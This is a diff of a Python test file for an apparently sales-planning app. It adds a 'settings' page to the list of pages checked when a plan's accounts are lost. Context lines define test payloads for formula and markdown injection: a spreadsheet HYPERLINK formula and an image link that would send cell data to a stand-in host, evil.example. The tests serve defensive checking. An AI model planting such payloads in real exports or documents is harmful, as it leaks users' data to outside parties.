@@ -22,7 +22,7 @@ from terr.view.text import markdown
 from terr.workspace import events, exports, imports, plans
 from terr.workspace.events import Seen
 
-PAGES = ("accounts", "plan", "scenarios", "reps", "reports")
+PAGES = ("accounts", "plan", "scenarios", "reps", "reports", "settings")
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
 IMAGE = "![x](http://evil.example/x.png)"
 ADDRESSES = (
@@ -197,7 +197,8 @@ def test_a_plan_whose_accounts_are_lost_is_one_line_and_the_others_work(open_app
             window = open_app(page, scenario=lost.id)
         assert not window.exception, page
         assert "Something went wrong" not in lines(window), page
-        assert "stored any more" in lines(window) or page in {"scenarios", "accounts"}, (page, lines(window))
+        quiet = page in {"scenarios", "accounts", "settings"}
+        assert quiet or "stored any more" in lines(window), (page, lines(window))
         assert "Customer A" not in caplog.text
     window = open_app("plan", scenario=kept.id)
     assert not window.exception
